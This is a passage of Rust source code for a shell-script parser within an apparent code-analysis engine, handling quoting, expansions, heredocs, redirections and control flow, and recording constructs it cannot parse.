//! Shell (sh/bash/zsh) front-end: a recursive-descent reader over bytes that understands
//! quoting, expansions (`$V`, `${V:-d}`, `$(…)`, backticks), heredocs, pipelines,
//! redirections, assignments and function definitions, and lowers commands to IR calls
//! with `command: true`. Control-flow keywords are flattened; their bodies are `weak`.

use super::ir::*;
use super::python::DepthGuard;
use super::token::{Cursor, unescape};

/// Placeholder for an unknown part of a string built elsewhere (see engine's nested
/// analysis of exec'd command strings).
pub const HOLE: char = '\u{FFFC}';

pub fn parse(src: &str) -> Module {
    let src = src.strip_prefix('\u{feff}').unwrap_or(src);
    parse_at(src, 1)
}

pub fn parse_at(src: &str, line: u32) -> Module {
    let (mut module, unparsed) = collect_unparsed(|| {
        let mut sh = Sh {
            c: Cursor::new(src, line),
            functions: Vec::new(),
            hd_line_end: None,
            hd_cursor: 0,
            weak: 0,
            open: Vec::new(),
            brace_word: false,
        };
        let body = sh.list(Term::Eof);
        for (kw, line, _) in &sh.open {
            note_unparsed(*line, *line, || format!("`{kw}` never closed"));
        }
        let mut m = Module::new(Lang::Shell);
        m.body = body;
        m.functions = sh.functions;
        m
    });
    module.unparsed = unparsed;
    module
}

#[derive(Clone, Copy, PartialEq)]
enum Term {
    Eof,
    /// `}` of a group/function body.
    Brace,
    /// `)` of a subshell or command substitution.
    Paren,
}

struct Sh<'a> {
    c: Cursor<'a>,
    functions: Vec<Function>,
    /// Newline ending the line whose heredocs have been read ahead, and where the next
    /// heredoc body starts.
    hd_line_end: Option<usize>,
    hd_cursor: usize,
    /// Depth of if/while/for/case nesting: assignments inside merge.
    weak: u32,
    /// Open compound commands (`if`, loops, `case`) and their lines, to report one whose
    /// `fi`/`done`/`esac` never comes.
    /// With whether the body keyword (`then`, `do`) was seen yet.
    open: Vec<(&'static str, u32, bool)>,
    /// The last word read had an unquoted `{` (a candidate for brace expansion).
    brace_word: bool,
}

const KEYWORDS_SKIP: &[&str] = &[
    "if", "then", "elif", "else", "while", "until", "do", "!", "time",
];
const KEYWORDS_CLOSE: &[&str] = &["fi", "done", "esac"];

fn is_word_end(b: u8) -> bool {
    matches!(
        b,
        b' ' | b'\t' | b'\n' | b'\r' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')'
    )
}

fn is_name(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty()
        && (b[0].is_ascii_alphabetic() || b[0] == b'_')
        && b.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_')
}

impl<'a> Sh<'a> {
    /// Moves the cursor to byte `to`, keeping line numbers right.
    fn jump(&mut self, to: usize) {
        while self.c.i < to && self.c.peek().is_some() {
            self.c.bump();
        }
    }

    fn newline(&mut self) {
        let at = self.c.i;
        self.c.bump();
        if self.hd_line_end == Some(at) {
            self.hd_line_end = None;
            let to = self.hd_cursor;
            self.jump(to);
        }
    }

    /// Skips blanks, comments and line continuations (not newlines).
    fn blanks(&mut self) {
        while let Some(b) = self.c.peek() {
            match b {
                b' ' | b'\t' | b'\r' => {
                    self.c.bump();
                }
                b'\\' if self.c.peek_at(1) == Some(b'\n') => {
                    self.c.bump();
                    self.c.bump();
                }
                b'#' => {
                    while self.c.peek().is_some_and(|b| b != b'\n') {
                        self.c.bump();
                    }
                }
                _ => break,
            }
        }
    }

    fn weak(&self) -> bool {
        self.weak > 0
    }

    /// Reads commands until the terminator.
    fn list(&mut self, term: Term) -> Vec<Stmt> {
        let mut out = Vec::new();
        let Some(_guard) = DepthGuard::enter() else {
            // Too deeply nested: consume the rest of this construct without structure.
            let line = self.c.line;
            note_unparsed(line, line, || "nested too deeply".into());
            self.skip_to_term(term);
            return out;
        };
        let mut case_pattern = false;
        let mut case_depth = 0u32;
        let open_line = self.c.line;
        loop {
            self.blanks();
            let Some(b) = self.c.peek() else {
                match term {
                    Term::Eof => {}
                    Term::Brace => note_unparsed(open_line, TO_END, || "`{` never closed".into()),
                    Term::Paren => note_unparsed(open_line, TO_END, || "`(` never closed".into()),
                }
                break;
            };
            match b {
                b'\n' => {
                    self.newline();
                    continue;
                }
                b';' => {
                    self.c.bump();
                    if self.c.peek() == Some(b';') || self.c.peek() == Some(b'&') {
                        self.c.bump();
                        if self.c.peek() == Some(b'&') {
                            self.c.bump();
                        }
                        if case_depth > 0 {
                            case_pattern = true;
                        }
                    }
                    continue;
                }
                b'&' | b'|' => {
                    self.c.bump();
                    continue;
                }
                b')' if term == Term::Paren => {
                    self.c.bump();
                    break;
                }
                b')' => {
                    if case_depth == 0 {
                        let line = self.c.line;
                        note_unparsed(line, line, || "unmatched `)`".into());
                    }
                    self.c.bump();
                    continue;
                }
                _ => {}
            }
            if case_pattern {
                // `pat1|pat2)` up to the closing parenthesis.
                if self.peek_word_is("esac") {
                    case_pattern = false;
                } else {
                    if self.c.peek() == Some(b'(') {
                        self.c.bump();
                    }
                    let line = self.c.line;
                    while let Some(b) = self.c.peek() {
                        if b == b')' {
                            self.c.bump();
                            break;
                        }
                        if b == b'\n' {
                            note_unparsed(line, line, || "case pattern without `)`".into());
                            self.newline();
                        } else {
                            self.c.bump();
                        }
                    }
                    case_pattern = false;
                    continue;
                }
            }
            if b == b'}' && term == Term::Brace {
                self.c.bump();
                break;
            }
            // Keywords at command position.
            let word = self.peek_bare_word();
            match word.as_deref() {
                Some(k) if KEYWORDS_SKIP.contains(&k) => {
                    match k {
                        "if" => self.open.push(("if", self.c.line, false)),
                        "while" | "until" => self.open.push(("while", self.c.line, false)),
                        "then" | "do" | "elif" => {
                            let opener = if k == "do" { "while" } else { "if" };
                            if let Some(top) = self.open.last_mut()
                                && top.0 == opener
                            {
                                // `elif` needs a `then` of its own.
                                top.2 = k != "elif";
                            }
                        }
                        _ => {}
                    }
                    self.jump(self.c.i + k.len());
                    if matches!(k, "if" | "while" | "until") {
                        self.weak += 1;
                    }
                    continue;
                }
                Some(k) if KEYWORDS_CLOSE.contains(&k) => {
                    let opener = match k {
                        "fi" => "if",
                        "esac" => "case",
                        _ => "while",
                    };
                    if self.open.last().is_some_and(|(o, _, _)| *o == opener) {
                        if let Some((_, line, false)) = self.open.pop()
                            && opener != "case"
                        {
                            let body = if opener == "if" { "then" } else { "do" };
                            note_unparsed(line, line, || {
                                format!("`{opener}` without `{body}` at a command's start")
                            });
                        }
                    } else {
                        let line = self.c.line;
                        note_unparsed(line, line, || format!("`{k}` without its opening keyword"));
                    }
                    self.jump(self.c.i + k.len());
                    self.weak = self.weak.saturating_sub(1);
                    if k == "esac" {
                        case_depth = case_depth.saturating_sub(1);
                        case_pattern = false;
                    }
                    continue;
                }
                Some("{") => {
                    self.c.bump();
                    let inner = self.list(Term::Brace);
                    out.extend(inner);
                    continue;
                }
                Some("case") => {
                    self.open.push(("case", self.c.line, true));
                    self.jump(self.c.i + 4);
                    self.blanks();
                    let subject = self.word();
                    out.push(Stmt::Expr(subject));
                    self.blanks();
                    if self.peek_word_is("in") {
                        self.jump(self.c.i + 2);
                    }
                    self.weak += 1;
                    case_depth += 1;
                    case_pattern = true;
                    continue;
                }
                Some("for") | Some("select") => {
                    self.open.push(("while", self.c.line, false));
                    let kw_len = word.as_deref().map(str::len).unwrap_or(3);
                    self.jump(self.c.i + kw_len);
                    self.weak += 1;
                    self.blanks();
                    if self.c.rest().starts_with(b"((") {
                        self.skip_arith();
                        continue;
                    }
                    let pos = self.c.pos();
                    let var = self.peek_bare_word().unwrap_or_default();
                    self.jump(self.c.i + var.len());
                    self.blanks();
                    let mut items = Vec::new();
                    if self.peek_word_is("in") {
                        self.jump(self.c.i + 2);
                        loop {
                            self.blanks();
                            match self.c.peek() {
                                None | Some(b'\n' | b';') => break,
                                _ => {}
                            }
                            if self.peek_word_is("do") {
                                // Without `;` or a newline, bash reads `do` as a list item.
                                let line = self.c.line;
                                note_unparsed(line, line, || "`do` needs `;` before it".into());
                                break;
                            }
                            let before = self.c.i;
                            items.push(self.word());
                            if self.c.i == before {
                                self.c.bump();
                            }
                        }
                    } else {
                        items.push(Expr::Name("$@".into(), pos));
                    }
                    if is_name(&var) {
                        out.push(Stmt::Assign {
                            targets: vec![Target::Name(var)],
                            value: Expr::Mix(items),
                            weak: true,
                            pos,
                        });
                    }
                    continue;
                }
                Some("function") => {
                    self.jump(self.c.i + 8);
                    self.blanks();
                    let name = self.peek_bare_word().unwrap_or_default();
                    self.jump(self.c.i + name.len());
                    self.blanks();
                    if self.c.rest().starts_with(b"()") {
                        self.jump(self.c.i + 2);
                    }
                    if let Some(stmt) = self.function_body(name) {
                        out.push(stmt);
                    }
                    continue;
                }
                _ => {}
            }
            if self.c.rest().starts_with(b"((") {
                self.skip_arith();
                continue;
            }
            if word.as_deref() == Some("[[") {
                if let Some(stmts) = self.test_command() {
                    out.extend(stmts);
                    continue;
                }
                let line = self.c.line;
                note_unparsed(line, line, || "`[[` not closed by `]]` on its line".into());
            }
            if b == b'(' {
                self.c.bump();
                let inner = self.list(Term::Paren);
                out.extend(inner);
                continue;
            }
            // `name() { … }`
            if let Some(w) = &word
                && is_name(w)
            {
                let save = (self.c.i, self.c.line, self.c.line_start);
                self.jump(self.c.i + w.len());
                self.blanks();
                if self.c.rest().starts_with(b"()") {
                    self.jump(self.c.i + 2);
                    if let Some(stmt) = self.function_body(w.clone()) {
                        out.push(stmt);
                    }
                    continue;
                }
                (self.c.i, self.c.line, self.c.line_start) = save;
            }
            let before = self.c.i;
            self.pipeline(&mut out);
            if self.c.i == before {
                let line = self.c.line;
                note_unparsed(line, line, || {
                    format!("unexpected character {:?}", char::from(b))
                });
                self.c.bump();
            }
        }
        out
    }

    fn skip_to_term(&mut self, term: Term) {
        let close = match term {
            Term::Eof => None,
            Term::Brace => Some(b'}'),
            Term::Paren => Some(b')'),
        };
        let mut depth = 0i32;
        while let Some(b) = self.c.peek() {
            self.c.bump();
            match b {
                b'(' | b'{' => depth += 1,
                _ if Some(b) == close && depth == 0 => return,
                b')' | b'}' => depth -= 1,
                _ => {}
            }
        }
    }

    fn skip_arith(&mut self) {
        let mut depth = 0i32;
        while let Some(b) = self.c.peek() {
            self.c.bump();
            match b {
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth <= 0 {
                        return;
                    }
                }
                _ => {}
            }
        }
    }

    fn function_body(&mut self, name: String) -> Option<Stmt> {
        let pos = self.c.pos();
        loop {
            self.blanks();
            if self.c.peek() == Some(b'\n') {
                self.newline();
            } else {
                break;
            }
        }
        let body = match self.c.peek() {
            Some(b'{') => {
                self.c.bump();
                self.list(Term::Brace)
            }
            Some(b'(') => {
                self.c.bump();
                self.list(Term::Paren)
            }
            _ => return None,
        };
        self.functions.push(Function {
            name,
            params: vec![Param {
                name: "$@".into(),
                rest: true,
            }],
            body,
            pos,
            class: None,
        });
        Some(Stmt::Def(self.functions.len() - 1))
    }

    /// The unquoted word at the cursor, if it is plain (for keyword checks).
    fn peek_bare_word(&self) -> Option<String> {
        let rest = self.c.rest();
        let mut n = 0;
        while n < rest.len() && !is_word_end(rest[n]) {
            if matches!(rest[n], b'"' | b'\'' | b'$' | b'`' | b'\\') {
                return None;
            }
            n += 1;
        }
        if n == 0 {
            return None;
        }
        Some(String::from_utf8_lossy(&rest[..n]).into_owned())
    }

    fn peek_word_is(&self, w: &str) -> bool {
        self.peek_bare_word().as_deref() == Some(w)
    }

    /// `cmd1 | cmd2 |& cmd3`, each stage reading the previous one's output.
    fn pipeline(&mut self, out: &mut Vec<Stmt>) {
        let mut prev: Option<Expr> = None;
        loop {
            let stage = self.simple_command(prev.take(), out);
            self.blanks();
            if self.c.peek() == Some(b'|') && self.c.peek_at(1) != Some(b'|') {
                self.c.bump();
                if self.c.peek() == Some(b'&') {
                    self.c.bump();
                }
                // A newline may follow the pipe.
                loop {
                    self.blanks();
                    if self.c.peek() == Some(b'\n') {
                        self.newline();
                    } else {
                        break;
                    }
                }
                // Compound stages (`| while read x; do …`) are flattened: the loop reads stdin.
                prev = Some(stage.unwrap_or(Expr::Unknown));
                if let Some(w) = self.peek_bare_word()
                    && matches!(w.as_str(), "while" | "until" | "for" | "if" | "{" | "(")
                {
                    if let Some(p) = prev.take() {
                        out.push(Stmt::Assign {
                            targets: vec![Target::Name("<stdin>".into())],
                            value: p,
                            weak: true,
                            pos: self.c.pos(),
                        });
                    }
                    return;
                }
                continue;
            }
            if let Some(e) = stage {
                out.push(Stmt::Expr(e));
            }
            return;
        }
    }

    /// One simple command with its assignments and redirections. Returns the command's
    /// output expression (None when the command wrote its output to a file).
    fn simple_command(&mut self, stdin: Option<Expr>, out: &mut Vec<Stmt>) -> Option<Expr> {
        let pos = self.c.pos();
        let mut words: Vec<Expr> = Vec::new();
        let mut word_pos = Vec::new();
        let mut stdin = stdin;
        let mut writes: Vec<(Expr, bool)> = Vec::new();
        let mut assigns: Vec<(String, Expr, bool)> = Vec::new();
        loop {
            self.blanks();
            let Some(b) = self.c.peek() else { break };
            if b == b'\\' && self.c.peek_at(1) == Some(b'\n') {
                self.c.bump();
                self.c.bump();
                continue;
            }
            if matches!(b, b'\n' | b';' | b'&' | b'|' | b')') {
                if b == b'&' && self.c.peek_at(1) == Some(b'>') {
                    // `&> file` / `&>> file`
                    self.c.bump();
                    let append = self.c.rest().starts_with(b">>");
                    self.jump(self.c.i + if append { 2 } else { 1 });
                    self.blanks();
                    let target = self.word();
                    writes.push((target, append));
                    continue;
                }
                break;
            }
            if b == b'}' && words.is_empty() {
                break;
            }
            // Redirections, optionally preceded by a file-descriptor number.
            let rest = self.c.rest();
            let fd_len = rest.iter().take_while(|c| c.is_ascii_digit()).count();
            let after_fd = &rest[fd_len..];
            if after_fd.first().is_some_and(|c| *c == b'>' || *c == b'<')
                && (fd_len > 0 || b == b'>' || b == b'<')
            {
                if after_fd.starts_with(b"<(") || after_fd.starts_with(b">(") {
                    // Process substitution is a word.
                } else {
                    self.jump(self.c.i + fd_len);
                    self.redirection(fd_len > 0, &mut stdin, &mut writes);
                    continue;
                }
            }
            // Assignment words before the command name.
            if words.is_empty()
                && let Some((name, append)) = self.assignment_name()
            {
                let value = if self.c.peek() == Some(b'(') {
                    self.array_literal()
                } else {
                    self.word()
                };
                assigns.push((name, value, append));
                continue;
            }
            word_pos.push(self.c.pos());
            let before = self.c.i;
            let mut w = self.word();
            if self.c.i == before {
                self.c.bump();
                continue;
            }
            // `{cu,}rl` is `curl rl`: brace expansion makes several words.
            if self.brace_word
                && let Expr::Str(text) = &w
                && let Some(expanded) = brace_expand(text)
            {
                let p = word_pos.last().copied().unwrap_or(pos);
                let mut it = expanded.into_iter();
                w = Expr::Str(it.next().unwrap_or_default());
                for extra in it {
                    words.push(std::mem::replace(&mut w, Expr::Str(extra)));
                    word_pos.push(p);
                }
            }
            // `declare -a FILES=()` / `local -a xs=(a b)`: an array value.
            if self.c.peek() == Some(b'(') && ends_with_eq(&w) {
                let items = self.array_literal();
                w = match w {
                    Expr::Concat(mut v) => {
                        v.push(items);
                        Expr::Concat(v)
                    }
                    other => Expr::Concat(vec![other, items]),
                };
            }
            words.push(w);
        }
        let weak = self.weak();
        if words.is_empty() {
            for (name, value, append) in assigns {
                out.push(assignment(name, value, append, weak, pos));
            }
            return stdin;
        }
        for (name, value, append) in assigns {
            out.push(assignment(name, value, append, weak, pos));
        }
        let head = match &words[0] {
            Expr::Str(s) => Some(s.clone()),
            _ => None,
        };
        match head.as_deref() {
            Some("export" | "local" | "declare" | "typeset" | "readonly" | "let") => {
                for (k, w) in words.iter().enumerate().skip(1) {
                    if let Some((n, v)) = split_assignment(w) {
                        out.push(Stmt::Assign {
                            targets: vec![Target::Name(n)],
                            value: v,
                            weak,
                            pos: word_pos[k],
                        });
                    }
                }
                return None;
            }
            Some("read" | "mapfile" | "readarray") => {
                let src = stdin
                    .take()
                    .unwrap_or_else(|| Expr::Name("<stdin>".into(), pos));
                let names: Vec<Target> = words[1..]
                    .iter()
                    .filter_map(|w| match w {
                        Expr::Str(s) if is_name(s) => Some(Target::Name(s.clone())),
                        _ => None,
                    })
                    .collect();
                let targets = if names.is_empty() {
                    vec![Target::Name("REPLY".into())]
                } else {
                    names
                };
                out.push(Stmt::Assign {
                    targets,
                    value: src,
                    weak: true,
                    pos,
                });
                return None;
            }
            _ => {}
        }
        let mut it = words.into_iter();
        let callee = it.next().unwrap_or(Expr::Unknown);
        let cmd = Expr::Call(Box::new(Call {
            callee,
            args: it.map(Arg::pos).collect(),
            pos,
            stdin,
            command: true,
        }));
        if writes.is_empty() {
            return Some(cmd);
        }
        let mut data = Some(cmd);
        for (target, append) in writes {
            let what = data.take().unwrap_or(Expr::Unknown);
            out.push(Stmt::Expr(call(
                name(if append { "<append>" } else { "<write>" }, pos),
                vec![target, what],
                pos,
            )));
        }
        None
    }

    /// `(a b c)` after `NAME=`, at the `(`.
    fn array_literal(&mut self) -> Expr {
        self.c.bump();
        let mut items = Vec::new();
        loop {
            self.blanks();
            match self.c.peek() {
                None => break,
                Some(b')') => {
                    self.c.bump();
                    break;
                }
                Some(b'\n') => self.newline(),
                _ => {
                    let before = self.c.i;
                    items.push(self.word());
                    if self.c.i == before {
                        self.c.bump();
                    }
                }
            }
        }
        Expr::List(items)
    }

    /// `[[ … ]]` at the cursor: its words, with the operators a test may hold unquoted
    /// (`=~ (a|b)`, `<`, `&&`) blanked so they read as words, not as pipes, subshells
    /// and redirections. Substitutions inside still run. None when no `]]` closes it on
    /// its line.
    fn test_command(&mut self) -> Option<Vec<Stmt>> {
        let src = self.c.src;
        let start = self.c.i;
        let mut k = start + 2;
        let mut text = Vec::with_capacity(64);
        // Read as the `[` command, so the nested parse does not come back here.
        text.extend_from_slice(b"[ ");
        let mut closed = false;
        let mut depth = 0u32;
        let mut quote: Option<u8> = None;
        while k < src.len() {
            let b = src[k];
            if b == b'\n' && quote.is_none() && depth == 0 {
                return None;
            }
            match (quote, b) {
                (_, b'\\') if quote != Some(b'\'') => {
                    text.push(b);
                    k += 1;
                    if let Some(&n) = src.get(k) {
                        text.push(n);
                    }
                    k += 1;
                    continue;
                }
                (Some(q), _) if b == q => quote = None,
                (Some(_), _) => {}
                (None, b'\'' | b'"') => quote = Some(b),
                (None, b'$') if matches!(src.get(k + 1), Some(b'(' | b'{')) => {
                    depth += 1;
                    text.extend_from_slice(&src[k..k + 2]);
                    k += 2;
                    continue;
                }
                (None, b')' | b'}') if depth > 0 => depth -= 1,
                (None, b']')
                    if depth == 0
                        && src.get(k + 1) == Some(&b']')
                        && src.get(k + 2).is_none_or(|n| is_word_end(*n)) =>
                {
                    text.extend_from_slice(b" ]");
                    k += 2;
                    closed = true;
                    break;
                }
                (None, b'(' | b')' | b'|' | b'&' | b'<' | b'>' | b';') if depth == 0 => {
                    text.push(b' ');
                    k += 1;
                    continue;
                }
                _ => {}
            }
            text.push(b);
            k += 1;
        }
        if !closed {
            return None;
        }
        let line = self.c.line;
        let text = String::from_utf8_lossy(&text).into_owned();
        let m = parse_at(&text, line);
        let base = self.functions.len();
        self.functions.extend(m.functions);
        self.jump(k);
        Some(
            m.body
                .into_iter()
                .map(|st| match st {
                    Stmt::Def(i) => Stmt::Def(i + base),
                    other => other,
                })
                .collect(),
        )
    }

    fn redirection(
        &mut self,
        had_fd: bool,
        stdin: &mut Option<Expr>,
        writes: &mut Vec<(Expr, bool)>,
    ) {
        let rest = self.c.rest();
        if rest.starts_with(b"<<<") {
            self.jump(self.c.i + 3);
            self.blanks();
            *stdin = Some(self.word());
        } else if rest.starts_with(b"<<") {
            let strip = rest.get(2) == Some(&b'-');
            self.jump(self.c.i + if strip { 3 } else { 2 });
            self.blanks();
            let (delim, quoted) = self.heredoc_delimiter();
            *stdin = Some(self.heredoc_body(&delim, quoted, strip));
        } else if rest.starts_with(b"<&") || rest.starts_with(b">&") {
            self.jump(self.c.i + 2);
            self.blanks();
            let target = self.word();
            // `>&2`, `2>&1` are descriptor duplications; `>& file` is a write.
            if !matches!(&target, Expr::Str(s) if s.chars().all(|c| c.is_ascii_digit() || c == '-'))
                && !had_fd
                && rest[0] == b'>'
            {
                writes.push((target, false));
            }
        } else if rest.starts_with(b"<>") || rest.starts_with(b"<") {
            self.jump(self.c.i + if rest.starts_with(b"<>") { 2 } else { 1 });
            self.blanks();
            let pos = self.c.pos();
            let file = self.word();
            *stdin = Some(Expr::Call(Box::new(Call {
                callee: Expr::Str("cat".into()),
                args: vec![Arg::pos(file)],
                pos,
                stdin: None,
                command: true,
            })));
        } else {
            let append = rest.starts_with(b">>");
            let n = if append || rest.starts_with(b">|") {
                2
            } else {
                1
            };
            self.jump(self.c.i + n);
            self.blanks();
            let target = self.word();
            // `2> /dev/null` and friends discard; stderr redirection carries no stdout.
            if !had_fd || !matches!(&target, Expr::Str(s) if s == "/dev/null") {
                writes.push((target, append));
            }
        }
    }

    fn heredoc_delimiter(&mut self) -> (String, bool) {
        let mut delim = String::new();
        let mut quoted = false;
        while let Some(b) = self.c.peek() {
            if is_word_end(b) {
                break;
            }
            match b {
                b'\'' | b'"' | b'\\' => {
                    quoted = true;
                    self.c.bump();
                }
                _ => {
                    delim.push(b as char);
                    self.c.bump();
                }
            }
        }
        (delim, quoted)
    }

    /// Reads the heredoc body that starts after the current line, and arranges for the
    /// main reader to skip over it when it reaches that line's end.
    fn heredoc_body(&mut self, delim: &str, quoted: bool, strip: bool) -> Expr {
        let src = self.c.src;
        let start = match self.hd_line_end {
            Some(_) => self.hd_cursor,
            None => {
                let nl = src[self.c.i..]
                    .iter()
                    .position(|b| *b == b'\n')
                    .map(|k| self.c.i + k)
                    .unwrap_or(src.len());
                self.hd_line_end = Some(nl);
                (nl + 1).min(src.len())
            }
        };
        // Line number of the body's first line.
        let body_line = self.c.line
            + src[self.c.i..start.min(src.len())]
                .iter()
                .filter(|b| **b == b'\n')
                .count() as u32;
        let mut k = start;
        let mut body_end = src.len();
        let mut next = src.len();
        let mut closed = false;
        while k < src.len() {
            let line_end = src[k..]
                .iter()
                .position(|b| *b == b'\n')
                .map(|p| k + p)
                .unwrap_or(src.len());
            let line = String::from_utf8_lossy(&src[k..line_end]);
            let line = line.trim_end_matches('\r');
            let cmp = if strip {
                line.trim_start_matches('\t')
            } else {
                line
            };
            if cmp == delim {
                body_end = k;
                next = (line_end + 1).min(src.len());
                closed = true;
                break;
            }
            k = line_end + 1;
        }
        self.hd_cursor = next;
        if !closed {
            note_unparsed(body_line, TO_END, || {
                format!("heredoc `{delim}` never closed")
            });
        }
        let text = String::from_utf8_lossy(&src[start.min(body_end)..body_end]).into_owned();
        if quoted {
            return Expr::Str(text);
        }
        let mut inner = Sh {
            c: Cursor::new(&text, body_line),
            functions: Vec::new(),
            hd_line_end: None,
            hd_cursor: 0,
            weak: 0,
            open: Vec::new(),
            brace_word: false,
        };
        let e = inner.dquoted_until(None);
        self.functions.extend(inner.functions);
        e
    }

    /// `NAME=` / `NAME+=` at the cursor: consumes it and returns the name.
    fn assignment_name(&mut self) -> Option<(String, bool)> {
        let rest = self.c.rest();
        let n = rest
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        if n == 0 || rest[0].is_ascii_digit() {
            return None;
        }
        let mut k = n;
        // `arr[i]=v`
        if rest.get(k) == Some(&b'[') {
            while k < rest.len() && rest[k] != b']' && rest[k] != b'\n' {
                k += 1;
            }
            k += 1;
        }
        let append = rest.get(k) == Some(&b'+');
        if append {
            k += 1;
        }
        if rest.get(k) != Some(&b'=') {
            return None;
        }
        let name = String::from_utf8_lossy(&rest[..n]).into_owned();
        self.jump(self.c.i + k + 1);
        Some((name, append))
    }

    /// One shell word: adjacent literal, quoted and expanded pieces.
    fn word(&mut self) -> Expr {
        self.brace_word = false;
        let mut pieces: Vec<Expr> = Vec::new();
        let mut lit = String::new();
        let start = self.c.i;
        while let Some(b) = self.c.peek() {
            if is_word_end(b) {
                // `<(cmd)` / `>(cmd)` process substitution inside a word position.
                if (b == b'<' || b == b'>') && self.c.peek_at(1) == Some(b'(') && self.c.i == start
                {
                    self.c.bump();
                    self.c.bump();
                    let stmts = self.list(Term::Paren);
                    pieces.push(Expr::Block(stmts));
                    continue;
                }
                break;
            }
            match b {
                b'\'' => {
                    // Quote boundaries split the word into pieces, so `c'u'rl` reads as built.
                    flush(&mut lit, &mut pieces);
                    let line = self.c.line;
                    self.c.bump();
                    let from = self.c.i;
                    while self.c.peek().is_some_and(|b| b != b'\'') {
                        self.c.bump();
                    }
                    if self.c.peek().is_none() {
                        note_unparsed(line, TO_END, || "quote `'` never closed".into());
                    }
                    lit.push_str(&self.c.slice(from, self.c.i));
                    self.c.bump();
                    flush(&mut lit, &mut pieces);
                }
                b'"' => {
                    self.c.bump();
                    flush(&mut lit, &mut pieces);
                    let e = self.dquoted_until(Some(b'"'));
                    pieces.push(e);
                }
                b'\\' => {
                    self.c.bump();
                    match self.c.peek() {
                        Some(b'\n') => {
                            self.c.bump();
                        }
                        Some(_) => {
                            let from = self.c.i;
                            self.c.bump();
                            while self.c.peek().is_some_and(|b| (b & 0xC0) == 0x80) {
                                self.c.bump();
                            }
                            lit.push_str(&self.c.slice(from, self.c.i));
                        }
                        None => {}
                    }
                }
                b'$' if self.c.peek_at(1) == Some(b'\'') => {
                    self.c.bump();
                    self.c.bump();
                    let from = self.c.i;
                    while let Some(b) = self.c.peek() {
                        if b == b'\\' {
                            self.c.bump();
                        } else if b == b'\'' {
                            break;
                        }
                        self.c.bump();
                    }
                    lit.push_str(&unescape(&self.c.slice(from, self.c.i)));
                    self.c.bump();
                }
                b'$' | b'`' => {
                    flush(&mut lit, &mut pieces);
                    pieces.push(self.expansion());
                }
                _ => {
                    if b == b'{' {
                        self.brace_word = true;
                    }
                    let from = self.c.i;
                    self.c.bump();
                    while self.c.peek().is_some_and(|b| (b & 0xC0) == 0x80) {
                        self.c.bump();
                    }
                    lit.push_str(&self.c.slice(from, self.c.i));
                }
            }
        }
        flush(&mut lit, &mut pieces);
        join_pieces(pieces)
    }

    /// Contents of a double-quoted string (or an unquoted heredoc when `close` is None).
    fn dquoted_until(&mut self, close: Option<u8>) -> Expr {
        let mut pieces = Vec::new();
        let mut lit = String::new();
        let line = self.c.line;
        let mut closed = close.is_none();
        while let Some(b) = self.c.peek() {
            if Some(b) == close {
                self.c.bump();
                closed = true;
                break;
            }
            match b {
                b'\\' => {
                    self.c.bump();
                    match self.c.peek() {
                        Some(n @ (b'"' | b'\\' | b'$' | b'`')) => {
                            lit.push(n as char);
                            self.c.bump();
                        }
                        Some(b'\n') => {
                            self.c.bump();
                        }
                        _ => lit.push('\\'),
                    }
                }
                b'$' | b'`' => {
                    flush(&mut lit, &mut pieces);
                    pieces.push(self.expansion());
                }
                _ => {
                    let from = self.c.i;
                    self.c.bump();
                    while self.c.peek().is_some_and(|b| (b & 0xC0) == 0x80) {
                        self.c.bump();
                    }
                    lit.push_str(&self.c.slice(from, self.c.i));
                }
            }
        }
        if !closed {
            note_unparsed(line, TO_END, || "quote `\"` never closed".into());
        }
        flush(&mut lit, &mut pieces);
        if pieces.is_empty() {
            return Expr::Str(String::new());
        }
        join_pieces(pieces)
    }

    /// `$NAME`, `${…}`, `$(…)`, `$((…))`, `` `…` `` at the cursor.
    fn expansion(&mut self) -> Expr {
        let pos = self.c.pos();
        if self.c.peek() == Some(b'`') {
            self.c.bump();
            let from = self.c.i;
            while let Some(b) = self.c.peek() {
                if b == b'\\' {
                    self.c.bump();
                } else if b == b'`' {
                    break;
                }
                self.c.bump();
            }
            if self.c.peek().is_none() {
                note_unparsed(pos.line, TO_END, || "backquote never closed".into());
            }
            let text = self.c.slice(from, self.c.i).replace("\\`", "`");
            self.c.bump();
            let Some(_guard) = DepthGuard::enter() else {
                note_unparsed(pos.line, pos.line, || "nested too deeply".into());
                return Expr::Unknown;
            };
            let m = parse_at(&text, pos.line);
            self.functions.extend(m.functions);
            return Expr::Block(m.body);
        }
        self.c.bump(); // `$`
        match self.c.peek() {
            Some(b'(') if self.c.peek_at(1) == Some(b'(') => {
                self.skip_arith();
                Expr::Unknown
            }
            Some(b'(') => {
                self.c.bump();
                Expr::Block(self.list(Term::Paren))
            }
            Some(b'{') => {
                self.c.bump();
                let from = self.c.i;
                let mut depth = 0;
                while let Some(b) = self.c.peek() {
                    if b == b'{' {
                        depth += 1;
                    } else if b == b'}' {
                        if depth == 0 {
                            break;
                        }
                        depth -= 1;
                    }
                    self.c.bump();
                }
                if self.c.peek().is_none() {
                    note_unparsed(pos.line, TO_END, || "`${` never closed".into());
                } else if self.c.line != pos.line {
                    let end = self.c.line;
                    note_unparsed(pos.line, end, || "`${` closed on another line".into());
                }
                let text = self.c.slice(from, self.c.i);
                self.c.bump();
                // (`${!arr[@]}` lists an array's keys and `${!pre*}` names: no indirection.)
                if text.starts_with('!')
                    && text[1..]
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b == b'_')
                {
                    // `${!name}`: the variable whose name is in `name`, unknown statically.
                    note_unparsed(pos.line, pos.line, || "indirect expansion `${!…}`".into());
                }
                param_expansion(&text, pos)
            }
            Some(b) if b.is_ascii_alphabetic() || b == b'_' => {
                let from = self.c.i;
                while self
                    .c
                    .peek()
                    .is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
                {
                    self.c.bump();
                }
                Expr::Name(self.c.slice(from, self.c.i), pos)
            }
            Some(b)
                if b.is_ascii_digit()
                    || matches!(b, b'@' | b'*' | b'#' | b'?' | b'$' | b'!' | b'-') =>
            {
                self.c.bump();
                match b {
                    b'0'..=b'9' | b'@' | b'*' => Expr::Name(format!("${}", b as char), pos),
                    _ => Expr::Unknown,
                }
            }
            _ => Expr::Str("$".into()),
        }
    }
}

/// `${VAR}`, `${VAR:-default}`, `${#VAR}`, `${VAR/x/y}`, `${1}`.
fn param_expansion(text: &str, pos: Pos) -> Expr {
